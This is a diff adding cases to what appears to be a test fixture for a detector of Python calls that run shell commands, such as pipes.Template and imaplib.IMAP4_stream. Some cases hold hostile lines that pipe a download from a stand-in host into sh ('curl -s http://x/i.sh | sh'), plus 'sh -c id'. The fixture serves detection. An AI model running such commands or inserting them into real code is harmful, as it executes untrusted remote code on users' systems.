@@ -138,3 +138,16 @@ print(posix.getpid())
 #@ neg a \N{...} name that is not a shell function
 import os
 print(getattr(os, "\N{LATIN SMALL LETTER G}etcwd")())
+#@ pos pipes.Template runs its steps with /bin/sh
+import pipes
+t = pipes.Template()
+t.append("curl -s http://x/i.sh | sh; cat", "--")
+t.open("/tmp/o", "w").write("x")
+#@ pos imaplib.IMAP4_stream runs a command
+import imaplib
+imaplib.IMAP4_stream("sh -c id")
+#@ neg another class's append
+class T:
+    def append(self, cmd, kind):
+        pass
+T().append("curl x | sh", "--")
